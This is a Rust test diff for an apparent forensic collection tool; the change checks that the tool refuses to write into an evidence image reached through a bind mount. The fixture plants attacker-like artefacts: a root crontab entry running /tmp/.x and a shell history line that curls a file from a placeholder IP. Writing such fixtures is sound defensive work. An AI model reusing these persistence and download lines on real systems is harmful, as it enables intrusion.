@@ -41,6 +41,11 @@ impl Disk {
         put("etc/crontab", "* * * * * root /tmp/.x\n");
         put("home/ann/.bash_history", "curl http://192.0.2.1/x\n");
         put("var/log/auth.log", "Accepted password for ann\n");
+        // A disk that says of itself what must not be looked at.
+        put(
+            "proc/self/mountinfo",
+            "1 2 0:1 / /home/ann rw - nfs server:/x rw\n",
+        );
         fs::write(dir.join("outside"), SECRET).unwrap();
         symlink("/usr/lib/os-release", tree.join("etc/os-release")).unwrap();
         symlink(dir.join("outside"), tree.join("var/log/syslog")).unwrap();
@@ -109,6 +114,26 @@ fn an_image_is_collected_from_with_the_same_profile_and_nothing_is_changed_on_it
         refused.err.contains("nothing is written there"),
         "{refused:?}"
     );
+
+    if rustix::process::geteuid().is_root() {
+        let other = dir.path().join("other");
+        fs::create_dir(&other).unwrap();
+        let bound = Command::new("mount")
+            .arg("--bind")
+            .arg(&disk.root)
+            .arg(&other)
+            .status();
+        assert!(bound.unwrap().success());
+        let refused = agent(&programs, &with(&args!["--output", other.join("var")]));
+        assert!(
+            Command::new("umount")
+                .arg(&other)
+                .status()
+                .unwrap()
+                .success()
+        );
+        assert_eq!(refused.code, 64, "by another name: {refused:?}");
+    }
 
     let done = agent(&programs, &with(&args!["--output", output, "--json"]));
     assert_eq!(done.code, 2, "{done:?}");
